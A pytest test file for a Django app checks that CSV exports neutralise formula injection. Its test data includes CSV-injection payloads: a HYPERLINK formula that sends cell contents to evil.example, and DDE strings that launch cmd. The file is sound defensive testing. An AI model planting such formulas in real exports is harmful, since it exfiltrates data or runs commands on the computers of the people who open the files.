"""CSV (formula) injection: no exported cell starts a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from snapshots.models import Change
from tests.factories import DocumentFactory, PlatformFactory, StatementFactory, SubscriberFactory
from tests.timeline.builders import history
from timeline.exports import COLUMNS

pytestmark = pytest.mark.django_db

FORMULAS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
COLUMN = {name: i for i, name in enumerate(COLUMNS)}
STARTS = ("=", "+", "-", "@", "\t", "\r")


def rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def assert_no_formula(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            assert not cell.startswith(STARTS), (cell, row)


@pytest.mark.parametrize("start", FORMULAS)
def test_it_neutralises_formulas_in_the_timeline_export(client, start):
    formula = FORMULAS[start]
    platform = PlatformFactory(name=formula[:100])
    document = DocumentFactory(platform=platform, title=formula, url=f"{formula}//x")
    change = history(document=document)[0]
    Change.objects.filter(pk=change.pk).update(headline=formula, summary=formula)
    StatementFactory(
        platform=platform, title=formula, summary=formula, outlet=formula, source_url=formula
    )

    response = client.get("/changes.csv")
    assert response.status_code == 200
    table = rows(b"".join(response.streaming_content))

    assert len(table) == 3  # header, the change, the statement
    assert_no_formula(table)
    # Still the reader's data: the formula is there, one quote in front, nothing lost.
    assert table[1][COLUMN["headline"]] == "'" + formula
    assert table[2][COLUMN["headline"]] == "'" + formula
    assert table[1][COLUMN["platform"]] == "'" + formula[:100]


def test_it_leaves_ordinary_cells_alone(client):
    history(document=DocumentFactory(title="Terms of Service"))
    table = rows(b"".join(client.get("/changes.csv").streaming_content))
    assert table[1][COLUMN["document"]] == "Terms of Service"


@pytest.mark.parametrize("start", FORMULAS)
def test_it_neutralises_formulas_in_admin_exports(admin_client, start):
    subscriber = SubscriberFactory(email=f"{FORMULAS[start][:1]}x@example.org")
    changelist = reverse("admin:alerts_subscriber_changelist")
    response = admin_client.post(
        changelist, {"action": "export_csv", "_selected_action": [subscriber.pk]}
    )
    assert response.status_code == 200
    table = rows(response.content)
    assert_no_formula(table)
    assert table[1][1] == f"'{subscriber.email}"
